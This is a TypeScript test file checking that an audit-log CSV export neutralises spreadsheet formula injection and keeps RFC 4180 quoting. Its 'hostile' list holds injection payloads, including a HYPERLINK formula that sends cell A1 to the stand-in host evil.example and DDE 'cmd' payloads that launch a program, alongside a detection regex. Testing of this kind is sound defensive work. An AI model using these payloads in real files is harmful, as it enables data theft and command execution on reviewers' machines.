import { describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../src/projections/audit-queries.ts';
import { csvHeader, csvRow } from '../../src/projections/proof/csv.ts';

const entry: AuditEntry = {
  eventId: '0192a000-0000-7000-8000-000000000001',
  position: '42',
  type: 'TeamRenamed',
  occurredAt: '2026-01-02T03:04:05.678Z',
  actor: { kind: 'user', userId: '0192a000-0000-7000-8000-000000000002' },
  subject: null,
  teamId: '0192a000-0000-7000-8000-000000000003',
  sessionId: null,
  deviceId: null,
  requestId: 'request-1',
  correlationId: '0192a000-0000-7000-8000-0000000000c0',
  causationId: '0192a000-0000-7000-8000-0000000000ca',
  ip: '203.0.113.7',
  userAgent: 'Mozilla/5.0 (X11)',
  place: 'Berlin, DE',
  data: { name: 'Bridge Works' },
  summary: 'Ada renamed the team to Bridge Works',
};

/** A reader by the letter of RFC 4180, §2; every cell is quoted. */
function recordsIn(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  const cells = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  for (let end = 0; end < text.length; end = cells.lastIndex) {
    const [, quoted = '', separator] = cells.exec(text) ?? expect.fail(`no cell at ${String(end)}`);
    record.push(quoted.replaceAll('""', '"'));
    if (separator === ',') continue;
    records.push(record);
    record = [];
  }
  return records;
}

const columns = csvHeader.trimEnd().split(',');
const row = (more: Partial<AuditEntry>): Record<string, string> => {
  const [cells = []] = recordsIn(csvRow({ ...entry, ...more }));
  expect(cells).toHaveLength(columns.length);
  return Object.fromEntries(columns.map((name, n) => [name, cells[n] ?? '']));
};

/** What people call themselves and their teams who have a reviewer's spreadsheet in mind. */
const hostile = [
  `=HYPERLINK("https://evil.example/?x="&A1,"Click me")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '"=1+1',
  `'=1+1`,
  `" '"@SUM(1,1)`,
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
];

/** Not at the beginning: with another separator than a comma, or without quoting, they would begin a cell. */
const hostileWithin = ['Ada;=1+1', 'Ada; "=1+1', 'Ada\t@SUM(1)', 'Ada\r\n=1+1', 'Ada\n-1+1', 'Ada;;+1', 'Ada;\uff1d1'];

/** What is left when all that may have been added is gone. */
const withoutApostrophes = (text: string) => text.replaceAll("'", '');

const calculated = /^[\s"]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

describe('an export for spreadsheets', () => {
  it.each(hostile)('shows %j as a text in each cell that people fill', (text) => {
    const cells = row({ summary: text, userAgent: text, place: text });
    for (const name of ['summary', 'userAgent', 'place']) {
      expect(cells[name]).toMatch(/^'/);
      expect(withoutApostrophes(cells[name] ?? '')).toBe(withoutApostrophes(text));
    }
  });

  it.each([...hostile, ...hostileWithin])(
    'begins no cell with %j, whatever the reader takes for a separator',
    (text) => {
      const cells = Object.values(row({ summary: `Ada is now ${text}`, userAgent: text, data: { name: text } }));
      const pieces = cells.flatMap((value) => value.split(/[;\t\r\n]/));
      expect(pieces.filter((piece) => calculated.test(piece))).toEqual([]);
    },
  );

  it('keeps commas, quotes and lines within their cell (RFC 4180)', () => {
    const text = 'Ada, "the\r\nfirst", of\nBridge;Works,"",';
    expect(row({ summary: text })).toMatchObject({ summary: text, place: 'Berlin, DE', type: 'TeamRenamed' });
    const two = csvRow({ ...entry, summary: text }) + csvRow({ ...entry, position: '43', summary: '","' });
    expect(recordsIn(two).map((cells) => [cells[0], cells[3]])).toEqual([
      ['42', text],
      ['43', '","'],
    ]);
    expect(csvHeader).toMatch(/^[A-Za-z,]+\r\n$/);
  });

  it('leaves what nobody would calculate as it is, and shows what is not known as nothing', () => {
    expect(row({ ip: null, actor: { kind: 'system' } })).toEqual({
      ...{ position: '42', occurredAt: entry.occurredAt, type: 'TeamRenamed', summary: entry.summary },
      ...{ actor: 'system', subject: '', teamId: entry.teamId, sessionId: '', deviceId: '', ip: '' },
      ...{ userAgent: 'Mozilla/5.0 (X11)', place: 'Berlin, DE', requestId: 'request-1' },
      ...{ correlationId: entry.correlationId, causationId: entry.causationId, eventId: entry.eventId },
      data: '{"name":"Bridge Works"}',
    });
  });
});
